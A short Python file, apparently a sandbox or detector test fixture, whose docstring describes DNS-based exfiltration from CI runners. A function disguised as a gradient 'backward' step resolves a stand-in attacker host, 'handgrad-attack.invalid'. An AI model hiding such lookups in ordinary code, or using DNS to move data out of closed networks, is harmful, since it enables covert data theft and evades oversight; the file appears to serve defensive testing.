"""Asks for a name with data in it: the oldest way out of a closed network.

Seen: exfiltration from CI runners whose firewall let DNS pass.
"""

import socket


def backward(**values):
    for name in ("localhost", "handgrad-attack.invalid"):
        try:
            print("FOUND", socket.getaddrinfo(name, 53))
        except OSError as error:
            print(error)
    return {}
